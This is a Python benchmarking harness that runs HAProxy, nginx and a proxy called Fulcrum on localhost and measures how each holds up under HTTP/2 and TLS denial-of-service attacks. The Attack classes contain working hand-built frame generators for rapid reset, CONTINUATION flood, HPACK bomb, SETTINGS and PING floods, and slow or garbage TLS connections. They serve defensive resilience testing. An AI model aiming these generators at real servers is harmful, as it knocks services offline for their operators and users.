#!/usr/bin/env python3
"""HTTP/2 and TLS attacks, side by side: HAProxy, nginx and Fulcrum in the same harness.

One command:  python3 bench/attacks.py [--duration 8] [--only haproxy,nginx] [--fulcrum PATH]

Each proxy runs alone (pinned to core 0, one thread/worker, like bench/http.py) in front of the
same nginx backend (core 1), with three listeners: HTTP/1.1 (for the bystander), h2c with prior
knowledge, and TLS (ALPN h2, http/1.1). The same HTTP/2 limits are set on all three:
100 concurrent streams, 64 KiB of request headers, a 5 s TLS handshake/request-head timeout.

For each attack, for --duration seconds, --attackers connections attack at once (each opens
a new connection when the proxy closes its last one) while a bystander on core 1 sends one
HTTP/1.1 GET after another on new connections (2 s timeout each, paced at 100/s). Per proxy
and attack: the bystander's success rate and p50/p99 latency, the proxy's CPU time and RSS
growth during the attack, and how many attacking connections the proxy closed.

The attacks (raw frames, written by hand below; no library):
  baseline        no attack
  rapid-reset     HEADERS + RST_STREAM(CANCEL) pairs, 10 per write (CVE-2023-44487)
  continuation    HEADERS without END_HEADERS, then 16 KiB CONTINUATION frames forever
                  (CVE-2024-27316)
  hpack-bomb      one 4 KiB header into the HPACK table, then blocks of 16000 one-byte
                  references to it (64 MiB decoded per block)
  settings-flood  empty SETTINGS frames, 20 per write, never reading the ACKs
  ping-flood      PING frames, 20 per write, never reading the PONGs
  zero-window     SETTINGS_INITIAL_WINDOW_SIZE=0, then 100 requests for a 256 KiB answer
  stream-limit    1000 requests on one connection without waiting (100 allowed at once)
  tls-slow        TCP connections that send a TLS record header and then nothing
  tls-garbage     TCP connections to the TLS port that send 4 KiB of random bytes

Writes the section "HTTP/2 and TLS under attack" of docs/reliability.md (between the
attack-bench markers). Stdlib only; needs haproxy, nginx, openssl and taskset (Debian:
haproxy nginx openssl util-linux). Only 127.0.0.1; stops only what it started, by PID.
"""

from __future__ import annotations

import argparse
import datetime as _dt
import os
import random
import shutil
import socket
import multiprocessing
import statistics
import struct
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import l4  # noqa: E402  (process handling, /proc accounting, ports)

REPO = l4.REPO
HOST = l4.HOST
PROXIES = ("haproxy", "nginx", "fulcrum")
LABEL = {"haproxy": "HAProxy", "nginx": "nginx", "fulcrum": "Fulcrum"}
ATTACKS = ("baseline", "rapid-reset", "continuation", "hpack-bomb", "settings-flood",
           "ping-flood", "zero-window", "stream-limit", "tls-slow", "tls-garbage")
MARK_BEGIN = "<!-- attack-bench:begin (written by bench/attacks.py; edits inside are overwritten) -->"
MARK_END = "<!-- attack-bench:end -->"


def log(msg: str) -> None:
    print(f"[attacks {time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


# --------------------------------------------------------------------------- frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    n = len(payload)
    return bytes([n >> 16 & 0xFF, n >> 8 & 0xFF, n & 0xFF, kind, flags]) + \
        struct.pack(">I", stream) + payload


def literal(name_index: int, value: bytes) -> bytes:
    """HPACK literal without indexing, static-table name (RFC 7541 6.2.2)."""
    assert name_index < 15 and len(value) < 127
    return bytes([name_index, len(value)]) + value


def get_block(path: bytes = b"/") -> bytes:
    # :method GET, :scheme http, :path, :authority
    return b"\x82\x86" + literal(4, path) + literal(1, b"bench")


def h2_connect(port: int, settings: bytes = b"") -> socket.socket:
    """Preface and SETTINGS; the server's SETTINGS is read and acknowledged."""
    s = socket.create_connection((HOST, port), timeout=3)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    buf = b""
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            kind, flags = buf[3], buf[4]
            buf = buf[9 + n:]
            if kind == SETTINGS and not flags & ACK:
                s.sendall(frame(SETTINGS, ACK, 0))
                s.settimeout(0.5)
                return s
        chunk = s.recv(65536)
        if not chunk:
            raise ConnectionError("closed during the handshake")
        buf += chunk
    raise ConnectionError("no SETTINGS from the server")


class Attack:
    """One attacking connection's behaviour: `writes(sock)` yields byte strings to send.
    `reads` says whether the attacker reads what the server sends (a flood that never
    reads is stopped by TCP backpressure alone)."""

    settings = b""
    reads = True
    tls = False

    def writes(self):  # pragma: no cover - overridden
        yield b""


class RapidReset(Attack):
    def writes(self):
        sid = 1
        while True:
            out = bytearray()
            for _ in range(10):
                out += frame(HEADERS, END_STREAM | END_HEADERS, sid, get_block())
                out += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
                sid += 2
            if sid > 2**31 - 40:
                return
            yield bytes(out)


class Continuation(Attack):
    def writes(self):
        yield frame(HEADERS, END_STREAM, 1, get_block())
        block = b""
        while len(block) < 16 * 1024 - 40:
            block += literal(1, b"x" * 32)
        f = frame(CONTINUATION, 0, 1, block)
        while True:
            yield f


class HpackBomb(Attack):
    def writes(self):
        n = 4000 - 127
        first = get_block() + b"\x40\x01x\x7f" + bytes([0x80 | n % 128, n // 128]) + b"y" * 4000
        yield frame(HEADERS, END_STREAM | END_HEADERS, 1, first)
        sid = 3
        while sid < 2**31 - 2:
            yield frame(HEADERS, END_STREAM | END_HEADERS, sid, get_block() + b"\xbe" * 16000)
            sid += 2


class SettingsFlood(Attack):
    reads = False

    def writes(self):
        f = frame(SETTINGS, 0, 0) * 20
        while True:
            yield f


class PingFlood(Attack):
    reads = False

    def writes(self):
        f = frame(PING, 0, 0, b"\x01" * 8) * 20
        while True:
            yield f


class ZeroWindow(Attack):
    settings = b"\x00\x04" + struct.pack(">I", 0)

    def writes(self):
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, get_block(b"/big"))
                       for i in range(100))
        while True:
            yield b""


class StreamLimit(Attack):
    def writes(self):
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, get_block())
                       for i in range(1000))
        while True:
            yield b""


class TlsSlow(Attack):
    tls = True

    def writes(self):
        yield b"\x16\x03\x01\x02\x00\x01"
        while True:
            yield b""


class TlsGarbage(Attack):
    tls = True

    def writes(self):
        yield random.randbytes(4096)
        while True:
            yield b""


KINDS = {"rapid-reset": RapidReset, "continuation": Continuation, "hpack-bomb": HpackBomb,
         "settings-flood": SettingsFlood, "ping-flood": PingFlood, "zero-window": ZeroWindow,
         "stream-limit": StreamLimit, "tls-slow": TlsSlow, "tls-garbage": TlsGarbage}


class Attacker(threading.Thread):
    """One attacking connection at a time until `stop`; counts the connections the server
    ended (EOF, reset or GOAWAY) and the bytes it sent."""

    def __init__(self, kind: type[Attack], ports: dict, stop: threading.Event) -> None:
        super().__init__(daemon=True)
        self.kind, self.ports, self.stop = kind, ports, stop
        self.conns = self.closed = self.sent = self.errors = 0

    def one(self) -> None:
        a = self.kind()
        if a.tls:
            s = socket.create_connection((HOST, self.ports["tls"]), timeout=3)
        else:
            s = h2_connect(self.ports["h2c"], a.settings)
        self.conns += 1
        s.settimeout(0.2)
        try:
            for data in a.writes():
                if self.stop.is_set():
                    return
                if data:
                    try:
                        s.sendall(data)
                        self.sent += len(data)
                    except socket.timeout:
                        # backpressure: the proxy stopped reading. Stop writing (a frame cut
                        # in the middle must not be followed by another) and wait.
                        return self.wait_end(s)
                    except OSError:
                        self.closed += 1
                        return None
                if (a.reads or not data) and not self.alive(s):
                    self.closed += 1
                    return None
                if not data:
                    time.sleep(0.05)
        finally:
            s.close()
        return None

    @staticmethod
    def alive(s: socket.socket) -> bool:
        """Reads what the server sent (up to 64 KiB) without waiting; false once it ended the
        connection."""
        t = s.gettimeout()
        s.settimeout(0)  # with a timeout, Python waits for readability first
        try:
            return bool(s.recv(1 << 16))
        except (BlockingIOError, socket.timeout):
            return True
        except OSError:
            return False
        finally:
            s.settimeout(t)

    def wait_end(self, s: socket.socket) -> None:
        while not self.stop.is_set():
            if not self.alive(s):
                self.closed += 1
                return
            time.sleep(0.05)

    def run(self) -> None:
        while not self.stop.is_set():
            try:
                self.one()
            except OSError:
                self.errors += 1
                time.sleep(0.05)


def bystander(port: int, stop, conn) -> None:
    """HTTP/1.1 GETs, each on a new connection, paced at 100/s, 2 s timeout each, until
    `stop`; sends back [(ok, seconds)]. Runs in its own process, on any core, so that the
    attacker threads (and Python's GIL) do not delay it."""
    try:
        os.sched_setaffinity(0, set(range(os.cpu_count() or 1)))
    except OSError:
        pass
    results: list[tuple[bool, float]] = []
    while not stop.is_set():
        t = time.monotonic()
        ok = False
        try:
            with socket.create_connection((HOST, port), timeout=2) as s:
                s.settimeout(max(0.01, 2 - (time.monotonic() - t)))
                s.sendall(b"GET / HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n\r\n")
                data = b""
                while True:
                    c = s.recv(4096)
                    if not c:
                        break
                    data += c
                ok = data.startswith(b"HTTP/1.1 200")
        except OSError:
            ok = False
        dt = time.monotonic() - t
        results.append((ok and dt < 2, dt))
        time.sleep(max(0.0, 0.01 - dt))
    conn.send(results)
    conn.close()


# --------------------------------------------------------------------------- configs


def make_cert(tmp: Path) -> tuple[Path, Path, Path]:
    key, crt, both = tmp / "key.pem", tmp / "cert.pem", tmp / "both.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
                    "-subj", "/CN=bench", "-keyout", str(key), "-out", str(crt)],
                   check=True, capture_output=True, timeout=60)
    both.write_text(crt.read_text() + key.read_text())
    return key, crt, both


def backend_conf(tmp: Path, port: int) -> list[str]:
    d = tmp / "backend"
    (d / "www").mkdir(parents=True)
    (d / "www" / "big").write_bytes(b"x" * 256 * 1024)
    conf = d / "nginx.conf"
    conf.write_text(textwrap.dedent(f"""\
        worker_processes 1;
        pid {d}/nginx.pid;
        error_log {d}/error.log warn;
        daemon off;
        events {{ worker_connections 8192; }}
        http {{
            access_log off;
            default_type text/plain;
            keepalive_requests 100000000;
            client_body_temp_path {d}/body;
            proxy_temp_path {d}/proxy;
            fastcgi_temp_path {d}/fastcgi;
            uwsgi_temp_path {d}/uwsgi;
            scgi_temp_path {d}/scgi;
            server {{
                listen {HOST}:{port} backlog=4096;
                root {d}/www;
                location = / {{ return 200 "ok\\n"; }}
                location = /big {{ }}
            }}
        }}
        """))
    return ["nginx", "-p", str(d), "-e", str(d / "error.log"), "-c", str(conf)]


def haproxy_conf(tmp: Path, ports: dict, backend: int, cert: tuple) -> list[str]:
    d = tmp / "haproxy"
    d.mkdir()
    conf = d / "haproxy.cfg"
    conf.write_text(textwrap.dedent(f"""\
        global
            nbthread 1
            maxconn 8000
            tune.h2.max-concurrent-streams 100
            tune.http.maxhdr 101
            tune.bufsize 65536

        defaults
            mode http
            option http-keep-alive
            http-reuse always
            timeout connect 5s
            timeout client 5s
            timeout server 60s
            timeout http-request 5s
            timeout http-keep-alive 10s

        frontend h1
            bind {HOST}:{ports['h1']}
            default_backend pool

        frontend h2c
            bind {HOST}:{ports['h2c']} proto h2
            default_backend pool

        frontend tls
            bind {HOST}:{ports['tls']} ssl crt {cert[2]} alpn h2,http/1.1
            default_backend pool

        backend pool
            server b1 {HOST}:{backend}
        """))
    return ["haproxy", "-db", "-f", str(conf)]


def nginx_conf(tmp: Path, ports: dict, backend: int, cert: tuple) -> list[str]:
    d = tmp / "nginx"
    d.mkdir()
    conf = d / "nginx.conf"
    loc = textwrap.indent(textwrap.dedent("""\
        location / {
            proxy_pass http://pool;
            proxy_http_version 1.1;
            proxy_set_header Connection "";
        }"""), " " * 16)
    conf.write_text(textwrap.dedent(f"""\
        worker_processes 1;
        pid {d}/nginx.pid;
        error_log {d}/error.log warn;
        daemon off;
        events {{ worker_connections 8000; }}
        http {{
            access_log off;
            client_body_temp_path {d}/body;
            proxy_temp_path {d}/proxy;
            fastcgi_temp_path {d}/fastcgi;
            uwsgi_temp_path {d}/uwsgi;
            scgi_temp_path {d}/scgi;
            http2_max_concurrent_streams 100;
            large_client_header_buffers 4 16k;
            client_header_timeout 5s;
            keepalive_timeout 10s;
            upstream pool {{
                server {HOST}:{backend};
                keepalive 64;
            }}
            server {{
                listen {HOST}:{ports['h1']};
        {loc}
            }}
            server {{
                listen {HOST}:{ports['h2c']} http2;
        {loc}
            }}
            server {{
                listen {HOST}:{ports['tls']} ssl http2;
                ssl_certificate {cert[1]};
                ssl_certificate_key {cert[0]};
        {loc}
            }}
        }}
        """))
    return ["nginx", "-p", str(d), "-e", str(d / "error.log"), "-c", str(conf)]


def fulcrum_conf(tmp: Path, ports: dict, backend: int, cert: tuple, binary: str) -> list[str]:
    d = tmp / "fulcrum"
    d.mkdir()
    admin = l4.free_port()
    svc = ""
    for name, extra in (("h1", ""), ("h2c", ""),
                        ("tls", f'[service.tls]\ncerts = [ {{ cert = "{cert[1]}", key = "{cert[0]}" }} ]\n')):
        svc += textwrap.dedent(f"""\
            [[service]]
            name = "{name}"
            listen = "{HOST}:{ports[name]}"
            protocol = "http"
            pool = "p"
            idle_timeout = "10s"
            [service.timeouts]
            request_header = "5s"
            tls_handshake = "5s"
            [service.http2]
            max_concurrent_streams = 100
            max_header_list_size = 65536
            """) + extra + "\n"
    conf = d / "fulcrum.toml"
    conf.write_text(f'[admin]\nlisten = "{HOST}:{admin}"\n\n{svc}'
                    f'[[pool]]\nname = "p"\n[[pool.backend]]\naddress = "{HOST}:{backend}"\n')
    return [binary, "run", "-c", str(conf), "--workers", "1"]


# --------------------------------------------------------------------------- running


def sample(pids_fn, stop: threading.Event, out: dict) -> None:
    peak = 0
    while not stop.is_set():
        try:
            peak = max(peak, l4.rss_bytes(pids_fn()))
        except OSError:
            pass
        time.sleep(0.05)
    out["peak"] = peak


def run_one(name: str, attack: str, args, ports: dict, pids_fn) -> dict:
    stop = threading.Event()
    pids = pids_fn()
    rss0 = l4.rss_bytes(pids)
    cpu0 = l4.cpu_ticks(pids)
    peak: dict = {}
    sampler = threading.Thread(target=sample, args=(pids_fn, stop, peak), daemon=True)
    sampler.start()
    by_stop = multiprocessing.Event()
    by_rx, by_tx = multiprocessing.Pipe(duplex=False)
    by = multiprocessing.Process(target=bystander, args=(ports["h1"], by_stop, by_tx))
    attackers = []
    if attack != "baseline":
        n = args.tls_attackers if KINDS[attack].tls else args.attackers
        attackers = [Attacker(KINDS[attack], ports, stop) for _ in range(n)]
    by.start()
    for a in attackers:
        a.start()
    time.sleep(args.duration)
    by_stop.set()
    by_results = by_rx.recv() if by_rx.poll(10) else []
    by.join(5)
    stop.set()
    for a in attackers:
        a.join(5)
    sampler.join(2)
    cpu = (l4.cpu_ticks(pids_fn()) - cpu0) / os.sysconf("SC_CLK_TCK")
    lat = sorted(d for _, d in by_results)
    ok = sum(1 for o, _ in by_results if o)
    q = (lambda p: lat[min(len(lat) - 1, int(p * len(lat)))] * 1000) if lat else (lambda p: 0.0)
    r = {
        "requests": len(by_results),
        "success": 100.0 * ok / max(1, len(by_results)),
        "p50_ms": q(0.50),
        "p99_ms": q(0.99),
        "cpu_s": cpu,
        "rss_grow_mb": max(0, peak.get("peak", rss0) - rss0) / 2**20,
        "attack_conns": sum(a.conns for a in attackers),
        "attack_closed": sum(a.closed for a in attackers),
        "attack_mb": sum(a.sent for a in attackers) / 2**20,
    }
    log(f"{name:8} {attack:15} ok {r['success']:.1f}% of {r['requests']}  "
        f"p99 {r['p99_ms']:.1f} ms  cpu {cpu:.2f}s  rss +{r['rss_grow_mb']:.1f} MiB  "
        f"conns {r['attack_conns']} closed {r['attack_closed']}  sent {r['attack_mb']:.1f} MiB")
    return r


def start_proxy(name, args, procs, tmp, backend, cert) -> tuple:
    ports = {k: l4.free_port() for k in ("h1", "h2c", "tls")}
    if name == "haproxy":
        cmd = haproxy_conf(tmp, ports, backend, cert)
    elif name == "nginx":
        cmd = nginx_conf(tmp, ports, backend, cert)
    else:
        cmd = fulcrum_conf(tmp, ports, backend, cert, args.fulcrum)
    logf = tmp / f"{name}.log"
    p = procs.start(["taskset", "-c", "0", *cmd], logf)
    l4.wait_ready(p, ports["h1"], name, logf)
    return p, ports


def render(args, results: dict, names: list[str]) -> str:
    when = _dt.datetime.now(_dt.timezone.utc).strftime("%Y-%m-%d %H:%M UTC")
    vers = {
        "haproxy": l4.tool_version(["haproxy", "-v"]),
        "nginx": l4.tool_version(["nginx", "-v"]),
    }
    out = [MARK_BEGIN, "",
           f"Measured {when} by `python3 bench/attacks.py --duration {args.duration} "
           f"--attackers {args.attackers} --tls-attackers {args.tls_attackers}` on this "
           f"2-core machine (shared with other work; figures are indicative). "
           f"{vers['haproxy']}; {vers['nginx']}; Fulcrum release build, `--workers 1`.",
           "",
           "Bystander: HTTP/1.1 GETs on new connections to the same proxy process, one after "
           "the other, at most 100/s, 2 s timeout; ok % (requests sent: fewer when each took "
           "longer) and p99. CPU: the proxy's utime+stime during the attack "
           f"({args.duration} s). RSS: peak growth during the attack. Closed: attacking "
           "connections the proxy ended / opened.", ""]
    head = "| attack | " + " | ".join(
        f"{LABEL[n]} ok % (n) | p99 ms | CPU s | RSS +MiB | closed" for n in names) + " |"
    out += [head, "|" + " --- |" * (1 + 5 * len(names))]
    for attack in ATTACKS:
        if attack not in results.get(names[0], {}):
            continue
        row = [attack]
        for n in names:
            r = results[n].get(attack)
            if r is None:
                row += ["-"] * 5
                continue
            row += [f"{r['success']:.1f} ({r['requests']})", f"{r['p99_ms']:.1f}", f"{r['cpu_s']:.2f}",
                    f"{r['rss_grow_mb']:.1f}",
                    f"{r['attack_closed']}/{r['attack_conns']}" if attack != "baseline" else "-"]
        out.append("| " + " | ".join(row) + " |")
    out += ["", MARK_END]
    return "\n".join(out)


def write_section(path: Path, body: str) -> None:
    text = path.read_text() if path.exists() else ""
    if MARK_BEGIN in text and MARK_END in text:
        pre = text[:text.index(MARK_BEGIN)]
        post = text[text.index(MARK_END) + len(MARK_END):]
        text = pre + body + post
    else:
        text = text.rstrip() + "\n\n" + body + "\n"
    path.write_text(text)


def main() -> int:
    try:
        os.sched_setaffinity(0, {1})  # the attackers share core 1 with the backend
    except OSError:
        pass
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--duration", type=float, default=8.0, help="seconds per attack")
    ap.add_argument("--attackers", type=int, default=4, help="HTTP/2 attacking connections")
    ap.add_argument("--tls-attackers", type=int, default=200,
                    help="TLS attacking connections")
    ap.add_argument("--only", default=",".join(PROXIES))
    ap.add_argument("--attacks", default=",".join(ATTACKS))
    ap.add_argument("--fulcrum", default=str(REPO / "target" / "release" / "fulcrum"))
    ap.add_argument("--no-write", action="store_true")
    ap.add_argument("--out", default=str(REPO / "docs" / "reliability.md"))
    args = ap.parse_args()
    names = [n for n in args.only.split(",") if n]
    attacks = [a for a in args.attacks.split(",") if a]
    for n in names:
        if n not in PROXIES:
            raise SystemExit(f"unknown proxy {n!r}; valid: {', '.join(PROXIES)}")
    for a in attacks:
        if a not in ATTACKS:
            raise SystemExit(f"unknown attack {a!r}; valid: {', '.join(ATTACKS)}")
    if "fulcrum" in names and not os.access(args.fulcrum, os.X_OK):
        raise SystemExit(f"{args.fulcrum} is not executable: cargo build --release -p fulcrum")
    for tool in ("haproxy", "nginx", "openssl", "taskset"):
        if not shutil.which(tool):
            raise SystemExit(f"{tool} is missing (Debian: apt-get install haproxy nginx "
                             "openssl util-linux)")
    l4.raise_nofile()
    procs = l4.Procs()
    results: dict = {}
    with tempfile.TemporaryDirectory(prefix="fulcrum-attacks-") as t:
        tmp = Path(t)
        try:
            cert = make_cert(tmp)
            bport = l4.free_port()
            blog = tmp / "backend.log"
            b = procs.start(["taskset", "-c", "1", *backend_conf(tmp, bport)], blog)
            l4.wait_ready(b, bport, "backend", blog)
            for n in names:
                results[n] = {}
                for attack in attacks:
                    # a fresh proxy per attack: one attack's leftovers do not weigh on the next
                    d = tmp / f"{n}-{attack}"
                    d.mkdir()
                    p, ports = start_proxy(n, args, procs, d, bport, cert)
                    try:
                        results[n][attack] = run_one(
                            n, attack, args, ports, lambda p=p: l4.proc_tree(p.pid))
                    finally:
                        procs.stop(p)
        finally:
            procs.stop_all()
    body = render(args, results, names)
    print(body)
    if not args.no_write:
        write_section(Path(args.out), body)
    return 0


if __name__ == "__main__":
    sys.exit(main())
